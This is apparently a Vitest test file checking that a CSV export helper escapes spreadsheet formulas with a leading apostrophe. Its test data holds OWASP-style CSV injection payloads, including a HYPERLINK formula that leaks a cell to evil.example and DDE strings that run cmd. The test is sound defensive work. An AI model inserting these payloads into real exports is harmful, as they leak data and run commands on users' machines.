import { describe, expect, it } from "vitest";
import { neutraliseFormula, toCsvText } from "../../src/data/csv-text.ts";

/** OWASP's CSV injection examples, and the variants a spreadsheet also runs. */
const OWASP_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=1+2";=1+2',
  "-",
  "+45 70 10 18 81",
];

describe("neutraliseFormula", () => {
  it.each(OWASP_PAYLOADS)("makes %j text with a leading apostrophe", (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it("leaves numbers, negative ones and decimal commas included, and ordinary labels alone", () => {
    for (const text of ["-1250000", "+12", "-12,5", "3.5", "0", "Plejefamilier", "5.28.21", "under 5", ""]) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });
});

describe("toCsvText", () => {
  it("writes a formula label as text in the header and in cells, in every CSV the site writes", () => {
    const text = toCsvText(["label", "value"], [{ label: '=HYPERLINK("http://x","y")', value: -5 }], {
      delimiter: ";",
      header: ["@Navn", "Beløb"],
    });
    expect(text).toBe('\'@Navn;Beløb\n"\'=HYPERLINK(""http://x"",""y"")";-5\n');
  });
});
